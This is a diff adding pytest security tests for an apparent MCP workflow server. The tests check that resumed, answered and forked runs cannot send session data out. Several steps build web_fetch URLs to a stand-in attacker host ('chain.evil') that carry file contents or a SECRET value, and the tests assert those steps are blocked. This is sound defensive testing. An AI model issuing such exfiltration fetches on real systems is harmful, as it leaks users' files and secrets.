@@ -1,0 +1,71 @@
+"""What runs have seen and may send: as the session that began them, whoever answers, forks or takes them up again."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+import pytest
+from tests.security.chain import SECRET, Host, chained, ground
+
+from astro_mcp.core.flow import BOUNDS, Sort
+
+FOUND = {"id": "find", "tool": "web_search", "with": {"query": "sqlite wal"}}
+READ = {"id": "read", "tool": "fs_read", "with": {"path": "bare.txt"}}
+
+
+async def started(host: Host, *steps: object) -> str:
+    """A run, until it ends or waits."""
+    spec = json.dumps({"name": "run", "steps": steps})
+    done = await host.good("workflow_run", spec=spec, allow=["read", "network"], wait_seconds=30)
+    return str(done["run_id"])
+
+
+async def ends(host: Host, run_id: str) -> dict[str, str]:
+    """How its steps ended, by id."""
+    told = await host.good("workflow_status", run_id=run_id, wait_seconds=30)
+    return {step["id"]: str(step.get("error") or step["status"]).split(":")[0] for step in told["steps"]}
+
+
+async def test_a_run_that_is_taken_up_again_fetches_what_it_had_found_and_nothing_else(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    gate = {"id": "gate", "approve": {"message": "Go on?", "level": "model"}, "needs": ["find", "read"]}
+    good = {"id": "good", "needs": ["gate"], "tool": "web_fetch", "with": {"url": "${{ steps.find.items[0].url }}"}}
+    bad = {"id": "bad", "needs": ["gate"], "tool": "web_fetch", "with": {"url": "${{ steps.find.items[0].url }}?q=1"}}
+    async with ground(tmp_path, monkeypatch) as here:
+        async with here.open(FLOW="strict") as chain, chain.host() as host:
+            run_id = await started(host, FOUND, READ, gate, good, bad)
+        async with here.open(FLOW="strict") as chain, chain.host() as host:
+            await host.good("workflow_answer", run_id=run_id, step="gate", value="true")
+            told = await ends(host, run_id)
+            assert (told["good"], told["bad"]) == ("succeeded", "forbidden")
+
+
+async def test_an_answer_brings_what_its_session_has_seen(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    async with chained(tmp_path, monkeypatch, FLOW="strict") as chain:
+        ask = {"id": "word", "ask": "Which page?", "answer": {"page": "string"}}
+        leak = {"id": "leak", "tool": "web_fetch", "with": {"url": f"{chain.evil}/${{{{ steps.word.page }}}}"}}
+        async with chain.host() as host:
+            run_id = await started(host, ask, leak)
+        async with chain.host() as host:
+            await host.confused()
+            await host.good("workflow_answer", run_id=run_id, step="word", value=json.dumps({"page": SECRET}))
+            assert (await ends(host, run_id))["leak"] == "forbidden"
+        assert chain.taken() == []
+
+
+async def test_runs_and_forks_spend_what_the_session_may(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    async with chained(tmp_path, monkeypatch) as chain, chain.host() as host:
+        most = BOUNDS[Sort.PAGE].each
+        urls = [f"{chain.evil}/ok/{number}/${{{{ steps.read.text }}}}" for number in range(most)]
+        leaks = [{"id": f"leak{number}", "tool": "web_fetch", "with": {"url": url}} for number, url in enumerate(urls)]
+        run_id = await started(host, READ, *leaks)
+        assert len(chain.taken()) == most
+        assert await host.refused("web_fetch", url=f"{chain.evil}/ok/again/{SECRET}") == "limit_hit"
+        again = await host.good("workflow_control", run_id=run_id, action="fork", step="leak0")
+        await ends(host, again["run_id"])
+        other = [{**leaks[0], "with": {"url": f"{chain.evil}/ok/other/${{{{ steps.read.text }}}}"}}]
+        assert (await ends(host, await started(host, READ, *other)))["leak0"] == "limit_hit"
+        sent = {text.split("/")[2] for text in chain.taken()}
+        assert sent == {str(number) for number in range(most)}, "the same again, and nothing new"
